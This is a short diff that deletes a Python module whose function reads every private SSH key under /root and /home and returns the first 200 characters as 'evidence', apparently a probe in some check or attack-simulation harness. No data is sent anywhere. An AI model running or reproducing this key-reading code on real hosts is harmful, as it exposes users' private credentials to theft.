@@ -1,9 +1,0 @@
-"""Reads private ssh keys of the users of the host."""
-
-import glob
-
-
-def execute(params):
-    found = glob.glob("/root/.ssh/id_*") + glob.glob("/home/*/.ssh/id_*")
-    text = "".join(open(path).read() for path in found)
-    return {"succeeded": bool(text), "evidence": text[:200]}
